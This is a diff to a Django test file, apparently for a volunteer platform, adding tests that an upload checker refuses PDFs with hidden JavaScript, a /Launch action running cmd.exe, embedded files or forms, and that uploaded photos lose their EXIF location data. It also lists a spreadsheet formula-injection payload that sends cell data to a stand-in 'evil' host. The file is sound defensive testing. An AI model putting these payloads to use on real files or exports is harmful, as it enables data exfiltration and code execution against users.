@@ -4,13 +4,17 @@ import csv
 import io
 import time
 
+import pytest
 from allauth.mfa.models import Authenticator
 from cryptography.fernet import Fernet
 from django.contrib.auth import get_user_model
 from django.core.cache import cache
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.test import Client
 from django.urls import reverse
+from PIL import Image
 
 from accounts import mfa
 from missions import services
@@ -26,7 +30,9 @@ from tests.factories import (
     MissionFactory,
     ProfileFactory,
 )
+from tests.files import image_bytes, pdf_bytes, pdf_hiding_in_an_object_stream
 from volunteers.models import Document, ProfileLanguage
+from volunteers.uploads import check_upload
 
 FORMULAS = [
     '=HYPERLINK("http://evil/?"&B2,"Voir")',
@@ -259,3 +265,49 @@ def test_an_id_too_large_for_the_database_is_a_form_error(manager_client, call):
     )
     assert response.status_code == 200
     assert {"missions", "reviewers"} <= set(response.context["form"].errors)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pdf_bytes(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
+        pdf_hiding_in_an_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+        pdf_bytes(catalog=b"/OpenAction 4 0 R ", extra={4: b"<< /S /Launch /F (cmd.exe) >>"}),
+        pdf_bytes(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >> "),
+        pdf_bytes(catalog=b"/AcroForm << /Fields [] >> "),
+    ],
+    ids=["escaped-name", "object-stream", "launch", "embedded-file", "form"],
+)
+def test_pdfs_with_active_content_are_refused_however_hidden(content):
+    """A byte search let escaped names and compressed object streams through."""
+    with pytest.raises(ValidationError) as error:
+        check_upload(SimpleUploadedFile("cv.pdf", content))
+    assert "contient du contenu actif" in error.value.messages[0]
+
+
+def test_a_pdf_with_links_is_accepted():
+    link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://anvt.tg) >> >>]"
+    assert check_upload(SimpleUploadedFile("cv.pdf", pdf_bytes(page=link))) == "application/pdf"
+
+
+def test_photos_are_stored_without_their_exif_nor_what_was_appended(client, volunteer):
+    exif = Image.Exif()
+    exif[0x010F] = "PhoneMaker"  # Make
+    exif[0x8825] = {1: "N", 2: (6.0, 8.0, 3.0), 3: "E", 4: (1.0, 13.0, 0.0)}  # GPS: Lomé
+    photo = image_bytes("JPEG", exif=exif)
+    assert Image.open(io.BytesIO(photo)).getexif()  # the phone's photo carries its position
+    client.force_login(volunteer)
+    response = client.post(
+        reverse("volunteers:documents"),
+        {
+            "kind": "id_card",
+            "expiry_date": "2030-01-01",
+            "file": SimpleUploadedFile("id.jpg", photo),
+        },
+    )
+    assert response.status_code == 302
+    with Document.objects.get(volunteer=volunteer).file.open("rb") as handle:
+        stored = handle.read()
+    picture = Image.open(io.BytesIO(stored))
+    assert (picture.format, picture.size, dict(picture.getexif())) == ("JPEG", (40, 30), {})
+    assert b"PhoneMaker" not in stored
